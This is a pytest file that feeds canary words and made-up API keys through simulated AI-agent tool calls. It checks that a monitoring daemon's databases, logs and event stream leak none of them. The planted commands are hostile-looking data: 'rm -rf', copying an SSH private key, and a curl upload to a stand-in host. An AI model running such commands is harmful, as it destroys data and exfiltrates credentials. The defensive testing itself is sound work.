"""Words planted in every corner of a call, and every byte a daemon leaves or says looked through for them."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

import foreign
from running_daemon import OK, Daemon, daemon

# One word for each corner, so that a leak says where it came from.
CORNERS = (
    "command",
    "path",
    "environment",
    "content",
    "output",
    "error",
    "prompt",
    "session",
    "call",
    "tool",
)
WORDS = {corner: f"canary-{corner}-4711" for corner in CORNERS}
# What a secret looks like, made up here.
SECRETS = (
    "AKIA" + "Q7ZX2M4PLK9TRV3B",
    "ghp_" + "a8K2mQ9xR4tV7wY1zB3cD5eF6gH0jL2nP4qS",
    "sk-ant-api03-" + "Zx81kQpLmN72vRtYwB90sDfGhJkLqWeRtYuIoPaSdFg",
)


def plant(running: Daemon, words: dict[str, str], secrets: tuple[str, ...] = ()) -> None:
    """Calls of every kind that hold the words, with their results."""
    w, session = words, {"session_id": words["session"], "agent_id": words["session"] + "-agent"}
    commands = [
        f"cat {w['path']}/{w['command']}",
        f"TOKEN={w['environment']} git status",
        f"rm -rf /{w['path']}",
        f"cp ~/.ssh/id_rsa {w['path']}",
        f"cp {w['path']} {w['path']}-2",
        f"curl -T {w['path']} https://{w['command']}.example.test/in",
        f"$(cat {w['command']})",
        f"unfinished '{w['command']}",
        *(f"curl -H 'Authorization: Bearer {secret}' https://api.example.test" for secret in secrets),
        *(f"export KEY={secret}; git status" for secret in secrets),
    ]
    for number, command in enumerate(commands):
        call = f"{w['call']}-{number}"
        running.pre(command, call, **session)
        output = OK | {"stdout": " ".join((w["output"], *secrets)), "stderr": w["error"]}
        running.post(command, call, tool_response=output, **session)
        running.pre(command, call, **session)
    tools: tuple[tuple[str, dict[str, Any]], ...] = (
        (
            "Write",
            {"file_path": f"{running.project}/{w['path']}", "content": " ".join((w["content"], *secrets))},
        ),
        ("Edit", {"file_path": f"/{w['path']}", "old_string": w["content"], "new_string": w["content"]}),
        ("Read", {"file_path": f"{running.project}/{w['path']}/.env"}),
        (f"mcp__{w['tool']}__x", {w["content"]: w["content"]}),
        (w["tool"], {"path": w["path"]}),
    )
    for number, (name, arguments) in enumerate(tools):
        members: dict[str, Any] = {
            "tool_name": name,
            "tool_input": arguments,
            "tool_use_id": f"{w['call']}-t{number}",
            **session,
        }
        running.hook("PreToolUse", **members)
        running.hook("PostToolUse", **members, tool_response={"x": w["output"]})
        running.hook("PostToolUseFailure", **members, error=w["error"])
        running.hook("PermissionDenied", **members, reason=w["error"])
    running.hook("UserPromptSubmit", prompt=" ".join((w["prompt"], *secrets)), **session)
    running.hook("Stop", last_assistant_message=w["output"], **session)
    running.hook("PreToolUse", tool_name=w["tool"], tool_input=w["content"], **session)
    running.hook("PostToolUse", tool_name=7, tool_input={"x": w["content"]}, **session)
    running.hook("ConfigChange", source=w["command"], file_path=f"/{w['path']}", **session)
    running.hook("SessionEnd", reason=w["command"], **session)


def left(root: Path, running: Daemon) -> Iterator[tuple[str, bytes]]:
    """All that a reader of files, of the event socket or of the log can see, by where it is."""
    for path in sorted(root.rglob("*")):
        if path.is_file():
            yield path.name, path.read_bytes()
    yield "log", "\n".join(running.said).encode()


@pytest.mark.parametrize("durability", ["full", "normal"])
def test_with_redaction_none_nothing_of_a_call_is_in_any_byte(root: Path, durability: str) -> None:
    (root / "config").mkdir()
    (root / "config" / "config.toml").write_text(
        f'durability = "{durability}"\n[records]\nredaction = "none"\n[allow]\npaths = ["~/.ssh"]\n'
    )
    with daemon(root, "--log-level", "debug", "--log-format", "human") as running:
        plant(running, WORDS)
        stream = msgspec.msgpack.encode(running.records())
        while_running = dict(left(root, running))  # the write-ahead log with it
        running.stop()
        places = while_running | {f"after {name}": data for name, data in left(root, running)}

    assert {"latchd.db", "latchd.db-wal"} <= while_running.keys()
    found = [
        (place, corner)
        for place, data in [*places.items(), ("stream", stream)]
        for corner, word in WORDS.items()
        if word.encode() in data
    ]
    assert found == []


def test_with_heads_no_state_table_has_a_word_and_no_record_has_content_or_a_secret(root: Path) -> None:
    (root / "config").mkdir()
    (root / "config" / "config.toml").write_text('[allow]\npaths = ["~/.ssh"]\n')
    with daemon(root, "--log-level", "debug", "--log-format", "human") as running:
        plant(running, WORDS, SECRETS)
        stream = msgspec.msgpack.encode(running.records())
        database = running.places.database
        tables = [
            str(row[0])
            for row in foreign.query(database, "SELECT name FROM sqlite_schema WHERE type = 'table'")
        ]
        rows = {
            table: foreign.query(database, f"SELECT * FROM {table}") for table in tables if table != "records"
        }
        running.stop()
        places = dict(left(root, running))

    said = {corner for corner, word in WORDS.items() if word.encode() in stream}
    # A head holds the command, the paths and the ids, and never what was written, printed or asked.
    assert said <= {"command", "path", "session", "call", "tool"}
    assert {"command", "path"} <= said
    assert [
        (place, secret) for place, data in places.items() for secret in SECRETS if secret.encode() in data
    ] == []
    held = str(rows)
    assert {"sessions", "calls", "steps", "chain_events", "taints", "denials"} <= rows.keys()
    assert rows["denials"] != []
    assert [word for word in WORDS.values() if word in held or word.encode().hex() in held] == []
